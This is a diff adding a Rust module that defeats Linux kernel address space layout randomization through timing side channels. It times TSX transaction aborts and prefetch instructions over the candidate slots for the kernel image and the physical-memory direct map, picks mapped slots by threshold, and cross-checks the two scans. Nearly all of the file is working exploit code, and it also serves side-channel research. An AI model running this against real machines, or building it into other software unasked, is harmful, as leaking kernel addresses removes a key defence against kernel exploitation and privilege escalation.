@@ -0,0 +1,192 @@
+//! Breaking kernel address space layout randomization by timing, as in DrK.
+//! A load from a kernel address in a TSX transaction aborts it whether or
+//! not the address is mapped, without the kernel ever seeing a fault, but
+//! the abort comes sooner for a mapped page, whose translation the TLB
+//! holds after the first try, than for one the page walk has to give up on.
+//!
+//! The kernel image sits somewhere in a 1 GiB window at a 2 MiB aligned
+//! offset, and the direct map of physical memory somewhere in a much larger
+//! one at a 1 GiB aligned offset, so timing a load to every slot finds
+//! both. With page table isolation, only the entry trampoline is mapped
+//! while user code runs, and nothing is found.
+//!
+//! Without TSX, or where its aborts are too noisy, prefetch instructions do
+//! the same job: they never fault, and return sooner for addresses that
+//! translate. Scans with both can be checked against each other.
+
+use std::io;
+
+use cpu::CpuFeatures;
+use suppress::tsx::{xbegin, xend, BeginResult};
+use timer::{Timer, TscTimer};
+
+/// A window of kernel address space some region is placed in, and what its
+/// placement is aligned to.
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+pub struct Region {
+    pub name: &'static str,
+    pub start: usize,
+    pub end: usize,
+    pub align: usize,
+}
+
+impl Region {
+    /// The number of places the region could start at.
+    pub fn slots(&self) -> usize {
+        (self.end - self.start) / self.align
+    }
+}
+
+/// Where the kernel image can be loaded.
+pub const KERNEL_TEXT: Region = Region {
+    name: "kernel text",
+    start: 0xffff_ffff_8000_0000,
+    end: 0xffff_ffff_c000_0000,
+    align: 2 << 20,
+};
+
+/// Where the direct map of physical memory can start, from its lowest
+/// unrandomized address on kernels before 4.20 to the start of vmalloc space.
+pub const DIRECT_MAP: Region = Region {
+    name: "direct map",
+    start: 0xffff_8800_0000_0000,
+    end: 0xffff_c880_0000_0000,
+    align: 1 << 30,
+};
+
+/// How long loads from every slot of a region took.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Scan {
+    pub region: Region,
+    /// The fastest of the tries at each slot, in order.
+    pub cycles: Vec<u64>,
+    /// Slots faster than this count as mapped.
+    pub threshold: u64,
+}
+
+impl Scan {
+    // picks the threshold halfway between the fastest slot and the median,
+    // since all but a few slots are unmapped
+    fn new(region: Region, cycles: Vec<u64>) -> Scan {
+        let mut sorted = cycles.clone();
+        sorted.sort();
+        let threshold = match (sorted.first(), sorted.get(sorted.len() / 2)) {
+            (Some(&fastest), Some(&median)) => fastest + (median - fastest) / 2,
+            _ => 0,
+        };
+        Scan {
+            region,
+            cycles,
+            threshold,
+        }
+    }
+
+    /// The addresses of the slots that look mapped.
+    pub fn mapped(&self) -> Vec<usize> {
+        self.cycles
+            .iter()
+            .enumerate()
+            .filter(|&(_, &cycles)| cycles < self.threshold)
+            .map(|(slot, _)| self.region.start + slot * self.region.align)
+            .collect()
+    }
+
+    /// Where the region starts: the first slot that looks mapped. None if
+    /// none does, or if so many do that the timings don't tell anything.
+    pub fn base(&self) -> Option<usize> {
+        let mapped = self.mapped();
+        if mapped.len() * 2 > self.cycles.len() {
+            return None;
+        }
+        mapped.first().cloned()
+    }
+}
+
+// how long a load from addr takes to abort a transaction
+#[inline(always)]
+unsafe fn time_abort(timer: &TscTimer, addr: *const u8) -> u64 {
+    let start = timer.start();
+    if xbegin() == BeginResult::XBeginStarted {
+        addr.read_volatile();
+        xend();
+    }
+    timer.stop(start)
+}
+
+// how long prefetching addr takes. the second prefetch finds the
+// translation the first one cached, if there was one to cache
+#[inline(always)]
+unsafe fn time_prefetch(timer: &TscTimer, addr: *const u8) -> u64 {
+    let start = timer.start();
+    asm!("prefetchnta ($0); prefetcht2 ($0)" :: "r" (addr) :: "volatile");
+    timer.stop(start)
+}
+
+// times a load from every slot of region tries times with time, keeping the
+// fastest
+fn scan<F: Fn(*const u8) -> u64>(region: Region, tries: usize, time: F) -> Scan {
+    let cycles = (0..region.slots())
+        .map(|slot| {
+            let addr = (region.start + slot * region.align) as *const u8;
+            (0..tries).map(|_| time(addr)).min().unwrap_or(0)
+        })
+        .collect();
+    Scan::new(region, cycles)
+}
+
+/// How slots are timed.
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+pub enum Locator {
+    /// How soon a load aborts a TSX transaction.
+    Tsx,
+    /// How long prefetching takes.
+    Prefetch,
+}
+
+impl Locator {
+    /// TSX where the CPU has it, since its aborts give the cleaner signal,
+    /// and prefetch otherwise.
+    pub fn detect() -> Locator {
+        if CpuFeatures::detect().rtm {
+            Locator::Tsx
+        } else {
+            Locator::Prefetch
+        }
+    }
+
+    /// Scans `region` with this locator, `tries` times per slot.
+    pub fn scan(self, region: Region, tries: usize) -> io::Result<Scan> {
+        match self {
+            Locator::Tsx => scan_tsx(region, tries),
+            Locator::Prefetch => Ok(scan_prefetch(region, tries)),
+        }
+    }
+}
+
+/// Scans `region` by timing transaction aborts, `tries` times per slot.
+/// Fails on CPUs without TSX.
+pub fn scan_tsx(region: Region, tries: usize) -> io::Result<Scan> {
+    if !CpuFeatures::detect().rtm {
+        return Err(io::Error::new(
+            io::ErrorKind::Other,
+            "this CPU does not support TSX (RTM)",
+        ));
+    }
+    let timer = TscTimer;
+    Ok(scan(region, tries, |addr| unsafe { time_abort(&timer, addr) }))
+}
+
+/// Scans `region` by timing prefetches, `tries` times per slot.
+pub fn scan_prefetch(region: Region, tries: usize) -> Scan {
+    let timer = TscTimer;
+    scan(region, tries, |addr| unsafe { time_prefetch(&timer, addr) })
+}
+
+/// The base two scans of the same region agree on. None if either found
+/// nothing, or they found different bases.
+pub fn cross_check(a: &Scan, b: &Scan) -> Option<usize> {
+    match (a.base(), b.base()) {
+        (Some(a), Some(b)) if a == b => Some(a),
+        _ => None,
+    }
+}